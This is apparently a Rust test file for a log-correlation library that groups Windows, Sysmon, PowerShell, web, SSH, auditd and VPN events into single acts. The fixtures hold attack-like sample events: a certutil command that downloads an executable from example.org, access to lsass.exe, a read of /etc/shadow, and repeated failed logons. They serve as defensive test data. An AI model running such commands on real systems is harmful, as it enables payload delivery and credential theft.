//! Each kind of act, from lines as they arrive to the sentence a person reads.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

mod common;

use common::{observed, said, security, sysmon, windows};
use insta::assert_snapshot;
use yagura_acts::{ActKind, ActState};

const WHO: [(&str, &str); 3] =
    [("SubjectUserName", "田中"), ("SubjectDomainName", "HOSPITAL"), ("SubjectLogonId", "0x1a2b")];

fn file(code: u32, at: &str, more: &[(&str, &str)]) -> String {
    let word = ("ProcessName", "C:\\Program Files\\Office\\WINWORD.EXE");
    let data: Vec<_> = WHO.into_iter().chain([word, ("ProcessId", "0x7d0")]).collect();
    security(code, at, &data.into_iter().chain(more.iter().copied()).collect::<Vec<_>>())
}

fn access(at: &str, path: &str, handle: &str, mask: &str) -> [String; 3] {
    let object = [("ObjectType", "File"), ("ObjectName", path), ("HandleId", handle)];
    let with_mask: Vec<_> = object.into_iter().chain([("AccessMask", mask)]).collect();
    [
        file(4656, at, &with_mask),
        file(4663, at, &with_mask),
        file(4658, at, &[("HandleId", handle)]),
    ]
}

/// Word writes a temporary file, moves the document away, the new one in, and deletes the old.
#[test]
fn a_save_with_its_temporary_files_is_one_act() {
    let document = r"D:\経理\給与.docx";
    let mut lines = Vec::new();
    lines.extend(access("01:00:00", document, "0x10", "0x1"));
    lines.extend(access("01:00:01", r"D:\経理\~$給与.docx", "0x14", "0x2"));
    lines.extend(access("01:00:02", r"D:\経理\~WRD0001.tmp", "0x18", "0x6"));
    lines.extend(access("01:00:03", document, "0x1c", "0x10000"));
    lines.extend(access("01:00:04", document, "0x20", "0x2"));
    let gone = access("01:00:05", r"D:\経理\~WRL0002.tmp", "0x24", "0x10000");
    lines.extend([gone[0].clone(), gone[1].clone()]);
    lines.push(file(4660, "01:00:05", &[("HandleId", "0x24")]));
    lines.push(gone[2].clone());
    let observed = observed(&lines);
    assert_eq!((observed.acts.len(), observed.passed.len()), (1, 0), "{observed:#?}");
    assert_eq!(observed.acts[0].event_ids.len(), lines.len());
    assert_eq!(observed.acts[0].id(), "file:test/1/0");
    assert_snapshot!(said(&lines), @"");
}

#[test]
fn reads_deletions_renames_and_refusals_are_told_apart() {
    let mut lines = Vec::new();
    lines.extend(access("01:00:00", r"D:\a\read.txt", "0x10", "0x1"));
    let [opened, used, closed] = access("01:10:00", r"D:\a\gone.txt", "0x14", "0x10000");
    lines.extend([opened, used, file(4660, "01:10:00", &[("HandleId", "0x14")]), closed]);
    lines.extend(access("01:20:00", r"D:\a\old-name.txt", "0x18", "0x10000"));
    let object = [("ObjectType", "File"), ("ObjectName", r"D:\a\secret.txt")];
    lines.push(file(4670, "01:30:00", &object));
    let mut denied = object.to_vec();
    denied.extend([("AccessMask", "0x2"), ("EventType", "AUDIT_FAILURE")]);
    lines.push(file(4656, "01:40:00", &denied));
    assert_snapshot!(said(&lines), @"");
}

#[test]
fn a_file_over_a_share_and_on_the_server_is_one_act() {
    let from = [("IpAddress", "192.0.2.30"), ("ShareName", r"\\*\経理")];
    let local = [("ShareLocalPath", r"\??\D:\経理"), ("RelativeTargetName", "給与.xlsx")];
    let share: Vec<_> =
        WHO.into_iter().chain(from).chain(local).chain([("AccessMask", "0x2019f")]).collect();
    let mut lines = vec![security(5145, "01:00:00", &share)];
    let object = [("ObjectType", "File"), ("ObjectName", r"D:\経理\給与.xlsx")];
    for (second, mask) in [("01", "0x1"), ("02", "0x2"), ("59", "0x2")] {
        let data: Vec<_> = WHO
            .into_iter()
            .chain(object)
            .chain([("ProcessId", "0x4"), ("HandleId", "0x99"), ("AccessMask", mask)])
            .collect();
        lines.push(security(4663, &format!("01:00:{second}"), &data));
    }
    assert_snapshot!(said(&lines), @"");
}

#[test]
fn a_logon_session_from_logon_to_logoff() {
    let target = [("TargetUserName", "tanaka"), ("TargetDomainName", "HOSPITAL")];
    let id = ("TargetLogonId", "0x1A2B");
    let on: Vec<_> =
        target.into_iter().chain([id, ("LogonType", "10"), ("IpAddress", "192.0.2.30")]).collect();
    let off: Vec<_> = target.into_iter().chain([id, ("LogonType", "10")]).collect();
    let lines = [
        security(4648, "01:00:00", &[("TargetUserName", "tanaka"), ("SubjectLogonId", "0x3e7")]),
        security(4672, "01:00:00", &[("SubjectUserName", "tanaka"), ("SubjectLogonId", "0x1a2b")]),
        security(4624, "01:00:00", &on),
        security(4779, "01:20:00", &[("AccountName", "tanaka"), ("LogonID", "0x1a2b")]),
        security(4647, "02:05:00", &off),
        security(4634, "02:05:01", &off),
        // Another one, which goes on, and the end of one that began before.
        security(
            4624,
            "03:00:00",
            &[("TargetUserName", "sato"), ("TargetLogonId", "0x2"), ("LogonType", "2")],
        ),
        security(4634, "04:00:00", &[("TargetUserName", "mori"), ("TargetLogonId", "0x77")]),
    ];
    let observed = observed(&lines);
    let states: Vec<_> = observed.acts.iter().map(|act| act.state).collect();
    assert_eq!(states, [ActState::Complete, ActState::Open]);
    assert_snapshot!(said(&lines), @"");
}

#[test]
fn failed_logons_of_one_source_are_one_act() {
    let from = ("IpAddress", "203.0.113.9");
    let mut lines = Vec::new();
    for (at, user) in [("01:00:00", "tanaka"), ("01:04:00", "sato"), ("01:08:00", "admin")] {
        lines.push(security(
            4625,
            at,
            &[("TargetUserName", user), from, ("SubStatus", "0xc000006a")],
        ));
    }
    lines.push(security(4625, "02:00:00", &[("TargetUserName", "tanaka"), from]));
    assert_snapshot!(said(&lines), @"");
}

#[test]
fn both_logs_about_one_process_and_what_it_touched_are_one_act() {
    let guid = ("ProcessGuid", "{6a910b9d-4a9a-5ee0-0c04-000000000400}");
    let image = ("Image", r"C:\Windows\System32\certutil.exe");
    let lines = [
        security(
            4688,
            "01:00:00",
            &[
                ("NewProcessId", "0x1570"),
                ("NewProcessName", r"C:\Windows\System32\certutil.exe"),
                ("SubjectUserName", "tanaka"),
                ("CommandLine", "certutil -urlcache -f http://example.org/a a.exe"),
            ],
        ),
        sysmon(1, "01:00:01", &[guid, ("ProcessId", "5488"), image, ("User", r"HOSPITAL\tanaka")]),
        sysmon(7, "01:00:02", &[guid, ("ProcessId", "5488"), image, ("ImageLoaded", "a.dll")]),
        sysmon(13, "01:00:03", &[guid, ("ProcessId", "5488"), image, ("TargetObject", r"HKLM\a")]),
        sysmon(22, "01:00:03", &[guid, ("ProcessId", "5488"), image, ("QueryName", "example.org")]),
        sysmon(
            3,
            "01:00:04",
            &[guid, ("ProcessId", "5488"), image, ("DestinationIp", "203.0.113.5")],
        ),
        // Who opens lsass is never only a count.
        sysmon(
            10,
            "01:00:05",
            &[
                ("SourceProcessGUID", "{6a910b9d-4a9a-5ee0-0c04-000000000400}"),
                ("TargetImage", r"C:\Windows\System32\lsass.exe"),
            ],
        ),
        security(4689, "01:01:00", &[("ProcessId", "0x1570"), ("SubjectUserName", "tanaka")]),
        sysmon(5, "01:01:00", &[guid, ("ProcessId", "5488"), image]),
        // The number is used again by another process.
        security(4688, "01:02:00", &[("NewProcessId", "0x1570"), ("NewProcessName", r"C:\b.exe")]),
    ];
    assert_snapshot!(said(&lines), @"");
}

#[test]
fn one_powershell_is_one_act() {
    let operational = "Microsoft-Windows-PowerShell/Operational";
    let context = r"        Host ID = 6d6b\r\n        Runspace ID = 9f92\r\n        User = HOSPITAL\\tanaka\r\n";
    // Line breaks as JSON writes them.
    let raw = |line: String| line.replace("CONTEXT", context);
    let lines = [
        raw(windows(operational, 4103, "01:00:00", &[
            ("ContextInfo", "CONTEXT"), ("Payload", "CommandInvocation(Get-Process): x"), ("ExecutionProcessID", "8648"),
        ])),
        windows(operational, 4104, "01:00:01", &[
            ("ScriptBlockId", "a"), ("MessageNumber", "1"), ("MessageTotal", "2"),
            ("ScriptBlockText", "Get-Process | Out-Null"), ("ExecutionProcessID", "8648"),
        ]),
        windows(operational, 4104, "01:00:01", &[
            ("ScriptBlockId", "a"), ("MessageNumber", "2"), ("MessageTotal", "2"),
            ("ScriptBlockText", "# end"), ("ExecutionProcessID", "8648"),
        ]),
        windows("Windows PowerShell", 800, "01:00:02", &[("Message", "PIPE")]).replace(
            "PIPE",
            r"Pipeline execution details\r\n\tUserId=HOSPITAL\\tanaka\r\n\tRunspaceId=9f92\r\nDetails: \r\nCommandInvocation(Out-Null): x",
        ),
    ];
    assert_snapshot!(said(&lines), @"");
}

#[test]
fn a_web_visit_has_pages_and_errors() {
    let request = |at: &str, request: &str, status: u16, agent: &str| {
        format!(
            r#"198.51.100.4 - - [20/Nov/2026:{at} +0000] "{request} HTTP/1.1" {status} 512 "-" "{agent}""#
        )
    };
    let lines = [
        request("01:00:00", "GET /login", 200, "Mozilla/5.0"),
        request("01:00:01", "GET /style.css", 200, "Mozilla/5.0"),
        request("01:00:05", "POST /login", 302, "Mozilla/5.0"),
        request("01:29:00", "GET /secret", 403, "Mozilla/5.0"),
        request("02:00:00", "GET /login", 200, "Mozilla/5.0"),
        request("01:00:02", "GET /login", 200, "curl/8"),
    ];
    assert_snapshot!(said(&lines), @"");
}

#[test]
fn ssh_sudo_su_and_cron() {
    let line = |at: &str, rest: &str| format!("<38>Nov 20 {at} web01 {rest}");
    let lines = [
        line("01:00:00", "sshd[812]: Failed password for tanaka from 192.0.2.30 port 50022 ssh2"),
        line("01:00:05", "sshd[812]: Accepted password for tanaka from 192.0.2.30 port 50022 ssh2"),
        line(
            "01:00:05",
            "sshd[812]: pam_unix(sshd:session): session opened for user tanaka by (uid=0)",
        ),
        line(
            "01:02:00",
            "sudo[900]:   tanaka : TTY=pts/0 ; PWD=/home/tanaka ; USER=root ; COMMAND=/usr/bin/apt update",
        ),
        line(
            "01:02:00",
            "sudo[900]: pam_unix(sudo:session): session opened for user root by tanaka(uid=0)",
        ),
        line("01:02:09", "sudo[900]: pam_unix(sudo:session): session closed for user root"),
        // The child writes this with its own number.
        line(
            "01:09:00",
            "sshd[815]: Received disconnect from 192.0.2.30 port 50022:11: disconnected by user",
        ),
        line("01:09:00", "sshd[812]: pam_unix(sshd:session): session closed for user tanaka"),
        // No SSH session is open any more.
        line(
            "03:00:00",
            "sudo[1000]:   sato : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
        ),
        line(
            "03:00:00",
            "sudo[1000]: pam_unix(sudo:session): session opened for user root by sato(uid=0)",
        ),
        line(
            "04:00:01",
            "CRON[77]: pam_unix(cron:session): session opened for user root by (uid=0)",
        ),
        line("04:00:01", "CRON[77]: (root) CMD (/usr/local/bin/backup)"),
        line("04:00:09", "CRON[77]: pam_unix(cron:session): session closed for user root"),
        line("05:00:00", "su[88]: pam_unix(su:session): session opened for user news by (uid=0)"),
        line("05:00:03", "su[88]: pam_unix(su:session): session closed for user news"),
        line("06:00:00", "sshd[90]: Invalid user admin from 203.0.113.9 port 4001"),
        line(
            "06:00:01",
            "sshd[90]: Failed password for invalid user admin from 203.0.113.9 port 4001 ssh2",
        ),
        line("06:00:02", "sshd[91]: Failed password for root from 203.0.113.9 port 4002 ssh2"),
        line("06:00:03", "sshd[91]: Connection closed by 203.0.113.9 port 4002 [preauth]"),
    ];
    assert_snapshot!(said(&lines), @"");
}

#[test]
fn audit_records_of_one_serial_number_are_one_act() {
    let lines = [
        r#"type=SYSCALL msg=audit(1795136400.100:42): arch=c000003e syscall=59 success=yes exit=0 pid=5 auid=1000 uid=0 exe="/usr/bin/cat" comm="cat" key="etc""#,
        r#"type=CWD msg=audit(1795136400.100:42): cwd="/root""#,
        r#"type=PATH msg=audit(1795136400.100:42): item=0 name="/etc/shadow""#,
        r#"type=USER_CMD msg=audit(1795136401.100:43): pid=6 uid=1000 msg='cmd="id" res=success'"#,
    ];
    let kinds: Vec<_> = observed(&lines).acts.iter().map(|act| act.kind).collect();
    // Where the decoder joins the records of one event itself, there is nothing left to join.
    if !kinds.is_empty() {
        assert_eq!(kinds, [ActKind::Audit]);
    }
}

#[test]
fn a_vpn_session_ends_where_it_is_cut() {
    let line = |at: &str, rest: &str| {
        format!(
            r#"date=2026-11-20 time={at} devname="gw01" tz="+0000" type="event" subtype="vpn" {rest}"#
        )
    };
    let lines = [
        line(
            "01:00:00",
            r#"logid="0101039947" action="tunnel-up" user="tanaka" remip=198.51.100.4 tunnelip=10.9.0.2"#,
        ),
        line(
            "02:30:00",
            r#"logid="0101039948" action="tunnel-down" user="tanaka" remip=198.51.100.4 tunnelip=10.9.0.2"#,
        ),
    ];
    assert_snapshot!(said(&lines), @"");
}
